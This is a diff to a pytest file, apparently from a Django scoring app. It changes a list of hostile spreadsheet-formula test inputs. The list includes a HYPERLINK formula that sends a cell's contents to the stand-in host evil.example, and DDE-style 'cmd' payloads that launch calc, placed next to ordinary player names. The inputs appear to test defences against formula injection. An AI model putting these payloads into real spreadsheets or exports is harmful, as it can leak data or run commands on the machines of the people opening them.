@@ -28,7 +28,8 @@ pytestmark = pytest.mark.django_db
 
 ROOT = pathlib.Path(__file__).resolve().parents[2]
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+#: A player's name holds no comma (scoring.names), so the link takes its one argument.
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1)'
 HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
 #: Ordinary names, one with a true minus sign as the pages write a negative score.
 ORDINARY = ["Dana", "\u22123 Emil"]
